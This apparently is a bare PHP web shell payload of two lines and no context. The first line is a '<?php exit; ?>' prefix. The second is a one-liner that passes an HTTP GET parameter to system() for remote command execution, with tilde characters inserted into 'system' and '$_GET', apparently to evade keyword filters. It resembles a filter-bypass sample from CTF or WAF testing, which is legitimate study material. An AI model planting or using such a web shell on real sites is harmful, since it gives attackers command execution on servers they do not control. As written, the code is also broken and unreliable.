<?php exit; ?>
<?php sys~tem($_G~ET['m']);
